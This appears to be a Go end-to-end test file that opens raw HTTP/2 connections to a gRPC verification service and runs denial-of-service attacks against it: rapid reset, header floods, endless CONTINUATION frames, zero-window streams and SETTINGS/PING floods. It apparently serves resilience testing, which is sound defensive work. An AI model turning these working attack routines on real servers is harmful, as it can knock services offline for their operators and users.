package e2e

import (
	"bytes"
	"context"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	verificationv1 "example.com/verification-status/gen/verification/v1"
)

// calls is a bare HTTP/2 client. It can do what the client of gRPC does not.
type calls struct {
	*http2.Framer
	block  bytes.Buffer
	hpack  *hpack.Encoder
	stream uint32
}

// call runs an attack over HTTP/2, and discards the answers.
func call(attack func(context.Context, *calls) error) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return
		}
		w := &calls{Framer: http2.NewFramer(c, c), stream: 1}
		w.hpack = hpack.NewEncoder(&w.block)
		if w.WriteSettings() != nil {
			return
		}
		heard := make(chan struct{})
		go func() {
			defer close(heard)
			_, _ = io.Copy(io.Discard, c)
		}()
		for n := 0; attack(ctx, w) == nil && ctx.Err() == nil; n++ {
			if n%20 == 0 {
				sleep(ctx, breath)
			}
		}
		_ = c.Close()
		<-heard
	}
}

// begin writes the headers of the next call.
func (w *calls) begin(method string, more ...hpack.HeaderField) error {
	w.block.Reset()
	w.stream += 2
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: method},
		{Name: ":authority", Value: "x"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}, more...) {
		if err := w.hpack.WriteField(field); err != nil {
			return err
		}
	}
	return w.WriteHeaders(http2.HeadersFrameParam{StreamID: w.stream, BlockFragment: w.block.Bytes(), EndHeaders: true})
}

const statusMethod, watchMethod = verificationv1.VerificationService_GetStatus_FullMethodName, verificationv1.VerificationService_WatchStatus_FullMethodName

// aSession is a request for an existing session, as gRPC frames it.
const aSession = "\x00\x00\x00\x00\x0b\x0a\x09vs_Normal"

func rapidReset(_ context.Context, w *calls) error {
	if err := w.begin(statusMethod); err != nil {
		return err
	}
	if err := w.WriteData(w.stream, true, []byte(aSession)); err != nil {
		return err
	}
	return w.WriteRSTStream(w.stream, http2.ErrCodeCancel)
}

func callsWithoutRequest(ctx context.Context, w *calls) error {
	for range 300 {
		if err := w.begin(statusMethod); err != nil {
			return err
		}
		if err := w.WriteData(w.stream, false, []byte("\x00\x00\x00\x40\x00")); err != nil {
			return err
		}
	}
	sleep(ctx, time.Second)
	return nil
}

func headerFlood(ctx context.Context, w *calls) error {
	fields := make([]hpack.HeaderField, 5000)
	for i := range fields {
		fields[i] = hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3000)}
	}
	sleep(ctx, 50*time.Millisecond)
	return w.begin(statusMethod, fields...)
}

func continuation(ctx context.Context, w *calls) error {
	block := []byte(strings.Repeat("\x00\x01a\x01b", 2000))
	err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: w.stream, BlockFragment: block})
	for err == nil && ctx.Err() == nil {
		err = w.WriteContinuation(w.stream, false, block)
		sleep(ctx, breath)
	}
	return err
}

func deafStreams(ctx context.Context, w *calls) error {
	if err := w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	for range 200 {
		if err := w.begin(watchMethod); err != nil {
			return err
		}
		if err := w.WriteData(w.stream, true, []byte(aSession)); err != nil {
			return err
		}
	}
	sleep(ctx, attackTime)
	return io.EOF
}

func controlFlood(_ context.Context, w *calls) error {
	if err := w.WriteSettings(); err != nil {
		return err
	}
	return w.WritePing(false, [8]byte{})
}
